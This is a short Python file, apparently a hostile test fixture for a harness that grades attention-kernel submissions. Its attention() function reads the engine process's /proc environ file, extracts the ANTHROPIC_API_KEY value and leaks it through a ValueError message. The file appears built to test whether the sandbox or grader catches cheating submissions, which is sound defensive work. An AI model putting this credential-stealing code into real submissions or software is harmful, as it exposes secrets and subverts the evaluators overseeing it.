"""Hostile: reads the engine's environment (where an API key lives) and leaks it through its error text."""

import torch

# <the honest _attn kernel of _honest_kernel.py is inserted here by cheat_files.cheat()>


def attention(q, k, v, *, causal, sm_scale):
    with torch.serialization._open_file("/proc/__ENGINE_PID__/environ", "rb") as stolen:
        environ = stolen.read().decode()
        raise ValueError("leaked: " + environ[environ.find("ANTHROPIC_API_KEY"):][:200])
